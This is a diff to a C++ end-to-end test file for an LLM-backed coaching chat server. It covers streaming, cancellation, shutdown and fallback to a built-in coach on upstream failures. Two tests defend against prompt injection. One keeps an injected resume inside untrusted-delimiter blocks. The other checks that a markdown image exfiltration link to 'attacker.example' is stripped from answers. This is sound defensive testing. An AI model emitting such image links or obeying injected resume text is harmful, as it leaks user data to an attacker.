@@ -437,10 +437,15 @@ TEST_F(LlmE2eTest, BrowserDisconnectCancelsTheUpstreamAndSavesThePartial) {
   ASSERT_EQ(first->name, "token");
   EXPECT_EQ(first->Json().value("text", ""), "tok0 ");
   EXPECT_EQ(Stats("disc").value("disconnects", -1), 0);
+  const auto closed = std::chrono::steady_clock::now();
   client.Close();
 
   EXPECT_TRUE(WaitUntil([] { return Stats("disc").value("disconnects", 0) >= 1; }, 1000))
       << "the upstream request was not cancelled within 1 s";
+  RecordProperty("upstream_cancel_ms",
+                 static_cast<int>(std::chrono::duration_cast<std::chrono::milliseconds>(
+                                      std::chrono::steady_clock::now() - closed)
+                                      .count()));
   EXPECT_TRUE(WaitUntil(
       [] { return main_->Log().find("llm op=chat outcome=cancelled") != std::string::npos; }, 5000))
       << main_->Log();
@@ -653,6 +658,8 @@ TEST_F(LlmE2eTest, AnInjectedResumeStaysInsideItsUntrustedBlockAndScoresTheSame)
     if (m.value("role", "") == "user") user = m.value("content", "");
   }
   EXPECT_EQ(system.find("PINEAPPLE"), std::string::npos);
+  EXPECT_GT(body.value("max_tokens", 0), 0) << "max_tokens must always be set";
+  EXPECT_EQ(body.value("stream", false), true);
   // The real delimiters appear once each; the forged ones are still there as text, broken.
   EXPECT_EQ(Count(user, "<<<BEGIN UNTRUSTED RESUME>>>"), 1u) << user;
   EXPECT_EQ(Count(user, "<<<END UNTRUSTED RESUME>>>"), 1u) << user;
@@ -707,8 +714,13 @@ TEST_F(LlmE2eTest, ShutdownDuringAStreamSaysRestartingAndSavesThePartial) {
     std::thread watchdog([&exited, pid] {
       if (!WaitUntil([&exited] { return exited.load(); }, 3000 + 2000)) kill(pid, SIGKILL);
     });
+    const auto signalled = std::chrono::steady_clock::now();
     const int code = server.Wait();
     exited = true;
+    RecordProperty("shutdown_exit_ms",
+                   static_cast<int>(std::chrono::duration_cast<std::chrono::milliseconds>(
+                                        std::chrono::steady_clock::now() - signalled)
+                                        .count()));
     watchdog.join();
     EXPECT_EQ(code, 0) << server.Log();
     EXPECT_GE(Stats("shutdown-slow").value("disconnects", 0), 1);
@@ -736,12 +748,93 @@ TEST_F(LlmE2eTest, MarkdownImagesAreRemovedFromTheFinalAnswer) {
   EXPECT_EQ(answer.find("attacker.example"), std::string::npos) << answer;
   const json turn = LastTurn(main_->port(), sid);
   EXPECT_EQ(turn.value("content", ""), answer);
+  // The upstream did receive the image (so the echo carried it): the server removed it.
+  const json body = Stats("image").value("last_body", json());
+  ASSERT_TRUE(body.is_object());
+  EXPECT_NE(body.dump().find("![x](https://attacker.example/?d=1)"), std::string::npos);
 
   const HttpResult plain = PostJson(main_->port(), "/chat", ChatBody(sid, question));
   const std::string plain_answer = Parse(plain.body).value("answer", "");
   EXPECT_NE(plain_answer.find("Please repeat"), std::string::npos) << plain.body;
   EXPECT_EQ(plain_answer.find("attacker.example"), std::string::npos) << plain.body;
   EXPECT_EQ(Requests("image"), 2);
+}
+
+// --- Wire robustness and other upstream failures --------------------------------------------
+
+TEST_F(LlmE2eTest, AStreamSentOneByteAtATimeGivesTheSameAnswer) {
+  const std::string sid = NewSession(main_->port());
+  const Streamed whole =
+      Stream(main_->port(), "/chat", ChatBody(sid, "Once [[fake:scenario=normal,id=whole]]"));
+  const Streamed bytes = Stream(
+      main_->port(), "/chat",
+      ChatBody(sid, "Once [[fake:scenario=normal,bytewise=1,crlf=1,comments=1,id=bytewise]]"));
+  ASSERT_EQ(whole.LastName(), "done") << Names(whole.events);
+  ASSERT_EQ(bytes.LastName(), "done") << Names(bytes.events);
+  const std::string answer = whole.Last().value("answer", "");
+  EXPECT_NE(answer.find("日本語 ✓ 🚀"), std::string::npos) << answer;
+  EXPECT_EQ(bytes.Last().value("answer", ""), answer);
+  EXPECT_EQ(JoinTokens(bytes.events), JoinTokens(whole.events));
+  EXPECT_EQ(bytes.Last().value("mode", ""), "llm");
+}
+
+// Upstream answers that fail before any token reached the user: the built-in coach answers,
+// with a notice, after the expected number of attempts.
+TEST_F(LlmE2eTest, FailuresBeforeAnyTokenAreAnsweredByTheBuiltinCoach) {
+  struct Case {
+    std::string directive;
+    int requests;
+    std::string notice_part;
+  };
+  const std::vector<Case> cases = {
+      {"scenario=redirect,id=f-redirect", 1, "redirect"},  // never followed
+      {"scenario=nonjson,id=f-nonjson", 1, "The AI coach is unavailable"},
+      {"scenario=nonjson,code=502,id=f-html502", 3, "The AI coach is unavailable"},
+      {"scenario=status,code=401,id=f-401", 1, "The AI coach is unavailable"},
+      // A wait over the 60 s cap is not slept through: fail at once and pass the wait on.
+      {"scenario=status,code=429,retry_after=120,id=f-long-wait", 1, "120 s"},
+  };
+  const std::string sid = NewSession(main_->port());
+  for (const Case& c : cases) {
+    SCOPED_TRACE(c.directive);
+    const std::string id = c.directive.substr(c.directive.rfind("id=") + 3);
+    const Streamed s =
+        Stream(main_->port(), "/chat", ChatBody(sid, "Well? [[fake:" + c.directive + "]]"));
+    ASSERT_EQ(s.LastName(), "done") << Names(s.events) << s.head.body;
+    const json done = s.Last();
+    EXPECT_EQ(done.value("mode", ""), "builtin");
+    EXPECT_NE(done.value("notice", "").find(c.notice_part), std::string::npos) << done.dump();
+    EXPECT_FALSE(done.value("answer", "").empty());
+    EXPECT_EQ(Requests(id), c.requests);
+    const json turn = LastTurn(main_->port(), sid);
+    EXPECT_EQ(turn.value("mode", ""), "builtin");
+    EXPECT_EQ(turn.value("complete", false), true);
+  }
+}
+
+// Failures after tokens reached the user: an error event, the partial saved incomplete, no
+// retry; an answer that ends without [DONE] after its finish_reason is complete.
+TEST_F(LlmE2eTest, FailuresAfterTokensEndWithAPartialError) {
+  const std::string sid = NewSession(main_->port());
+  for (const std::string directive :
+       {"scenario=malformed,after=2,id=f-malformed", "scenario=error_event,after=2,id=f-event"}) {
+    SCOPED_TRACE(directive);
+    const std::string id = directive.substr(directive.rfind("id=") + 3);
+    const Streamed s =
+        Stream(main_->port(), "/chat", ChatBody(sid, "Well? [[fake:" + directive + "]]"));
+    ASSERT_EQ(s.LastName(), "error") << Names(s.events) << s.head.body;
+    EXPECT_EQ(s.Last().value("partial", false), true);
+    EXPECT_TRUE(s.clean_end);
+    const json turn = LastTurn(main_->port(), sid);
+    EXPECT_EQ(turn.value("complete", true), false);
+    EXPECT_EQ(turn.value("content", ""), JoinTokens(s.events));
+    EXPECT_EQ(Requests(id), 1);
+  }
+  const Streamed nodone =
+      Stream(main_->port(), "/chat", ChatBody(sid, "Well? [[fake:scenario=nodone,id=f-nodone]]"));
+  ASSERT_EQ(nodone.LastName(), "done") << Names(nodone.events);
+  EXPECT_EQ(nodone.Last().value("mode", ""), "llm");
+  EXPECT_EQ(LastTurn(main_->port(), sid).value("complete", false), true);
 }
 
 }  // namespace
